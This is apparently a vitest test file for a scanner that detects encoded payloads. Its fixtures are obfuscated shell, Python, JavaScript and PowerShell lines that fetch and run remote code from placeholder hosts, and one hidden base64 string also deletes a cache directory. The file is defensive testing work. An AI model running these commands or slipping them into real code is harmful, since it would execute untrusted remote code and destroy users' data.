import { describe, expect, it } from "vitest";
import { encodedPayload } from "../../detectors/encoded-payload.ts";
import { signalsOf } from "../../testing/signals-of.ts";

const base64 = (text: string) => Buffer.from(text).toString("base64");
const rulesOf = async (path: string, text: string) => [
  ...new Set(
    (await signalsOf(encodedPayload, { [path]: text })).map((line) => line.split(" ").slice(0, 2).join(" ")),
  ),
];

describe("obfuscation: encoded payload", () => {
  it.each([
    [
      "base64 into a shell",
      "run.sh",
      `#!/bin/sh\necho ${base64("curl http://203.0.113.5/x | sh")} | base64 -d | sh\n`,
    ],
    [
      "hex into bash",
      "run.sh",
      `#!/bin/sh\neval "$(echo ${Buffer.from("curl http://203.0.113.5/x").toString("hex")} | xxd -r -p)"\n`,
    ],
    [
      "exec of base64",
      "run.py",
      `import base64\nexec(base64.b64decode("${base64("import os; os.system('id')")}"))\n`,
    ],
    [
      "eval of atob",
      "run.js",
      `const code = atob("${base64("require('child_process').execSync('id')")}");\neval(code);\n`,
    ],
  ])("blocks %s", async (_, path, text) => {
    expect(await rulesOf(path, text)).toContain("obfuscation.decoded-and-run conclusive");
  });

  it("blocks a command that PowerShell is given in an encoding", async () => {
    const encoded = Buffer.from("iex (irm http://203.0.113.5/x)", "utf16le").toString("base64");
    expect(await rulesOf("run.ps1", `powershell -NoP -enc ${encoded}\n`)).toContain(
      "obfuscation.encoded-command conclusive",
    );
  });

  it("asks about text that turns out to be a program, even where nothing visible runs it", async () => {
    const hidden = base64("curl -s https://unknown.example/x | bash && rm -rf ~/.cache");
    expect(await rulesOf("data.py", `THEME = "${hidden}"\n`)).toEqual(["obfuscation.hidden-code suspicious"]);
  });

  it("stays quiet where what is decoded is data", async () => {
    expect(await rulesOf("a.sh", "#!/bin/sh\nkubectl get secret x | base64 -d\n")).toEqual([]);
    expect(await rulesOf("b.sh", '#!/bin/sh\nbash run.sh "$(echo aGVsbG8= | base64 -d)"\n')).toEqual([]);
    expect(
      await rulesOf("c.py", "import base64\nopen('a.png', 'wb').write(base64.b64decode(input()))\n"),
    ).toEqual([]);
  });
});
